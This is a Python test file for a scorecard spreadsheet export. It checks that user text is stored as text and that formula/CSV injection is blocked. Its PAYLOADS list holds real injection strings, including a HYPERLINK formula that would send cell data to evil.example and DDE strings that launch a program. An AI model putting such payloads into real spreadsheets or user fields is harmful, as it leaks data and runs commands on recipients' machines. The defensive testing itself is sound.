"""Formula injection (issue 16, point 5): every cell of the workbook goes through one writer,
fieldsvc.visits.scorecards.workbook.export_cell; text from users is written as text whatever it starts with, and
the only live formulas are the totals the module builds itself."""
from __future__ import annotations

import ast
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from fieldsvc.db import db
from fieldsvc.visits.scorecards import workbook as export
from fieldsvc.visits import models as m
from fieldsvc.visits.scorecards.workbook import Formula, export_cell, export_scorecard
from fieldsvc.visits.scorecards.ledger import recompute_period, waive_line
from tests.scorecard.dataset import END, NOW, START

#: Formula and DDE payloads (OWASP "CSV injection") in every spelling a spreadsheet reacts to.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1", "==1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_keeps_user_text_as_text(payload: str) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([export_cell(ws, payload), export_cell(ws, Formula("=SUM(1,2)")), export_cell(ws, 3)])
    buf = BytesIO()
    wb.save(buf)
    cells = list(load_workbook(BytesIO(buf.getvalue()))["s"].iter_rows())[0]
    assert cells[0].data_type == "s" and cells[0].value == payload and cells[0].quotePrefix
    assert cells[1].data_type == "f" and cells[2].value == 3


def test_user_text_in_the_scorecard_workbook_stays_text(month) -> None:
    """A waiver reason, a contractor's name and a merchant-facing reference full of formulas."""
    recompute_period(START, END, user=None, now=NOW)
    lines = db.session.scalars(db.select(m.PenaltyLine).order_by(m.PenaltyLine.id)).all()
    admin = db.session.scalars(db.select(m.User).filter_by(username="admin")).one()
    for line, payload in zip(lines, PAYLOADS):
        waive_line(line.id, admin, payload)
    contractor = db.session.scalars(db.select(m.Contractor).filter_by(code="c1")).one()
    contractor.name = PAYLOADS[1]
    db.session.commit()
    _card, data = export_scorecard(START, END, user=None, lang="en", now=NOW)
    wb = load_workbook(BytesIO(data))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert ws.title == "Penalties" and str(c.value).startswith(("=SUMIFS(", "=SUM(")), \
                        f"{ws.title}!{c.coordinate} is a live formula: {c.value!r}"
                elif isinstance(c.value, str) and c.value.strip() in {p.strip() for p in PAYLOADS}:
                    assert c.data_type == "s"
                    seen.add(c.value.strip())
    reasons = {p.strip() for p in PAYLOADS[:len(lines)]}
    assert reasons | {PAYLOADS[1]} <= seen


def test_every_cell_goes_through_the_one_writer() -> None:
    """export.py appends rows only in _Sheet.write, each item through export_cell."""
    tree = ast.parse(Path(export.__file__).read_text())
    appends = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
               and n.func.attr in ("append", "cell") and ast.unparse(n.func.value).split(".")[-1] in ("ws", "sheet")]
    assert len(appends) == 1, [ast.unparse(a) for a in appends]
    assert "cell(item[0], item[1])" in ast.unparse(appends[0])
    assert "WriteOnlyCell(" not in "".join(ast.unparse(n) for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)
                                           and n.name != "export_cell" and n.name != "__init__")
